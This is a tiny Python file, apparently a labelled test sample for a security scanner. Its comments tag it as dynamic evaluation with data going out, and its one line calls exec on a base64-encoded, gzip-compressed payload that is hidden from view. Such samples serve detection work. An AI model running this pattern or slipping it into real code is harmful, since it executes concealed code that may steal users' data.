# expect: dynamic-eval,data-out
# source: issue 4
# technique: exec of gzip.decompress output
import base64, gzip

exec(gzip.decompress(base64.b64decode("H4sIAAAAAAACAzXGQQqAIBAF0H2ncKdCjPugwwz4oSB1cn7Q8Vv1Vu9sNibDxP3A6csfseFM8SDNt1JMnRC82uyCdLA8cQ1Vqfsw9BT7IFxajVkmtKaclw+YXUKXWwAAAA==")))
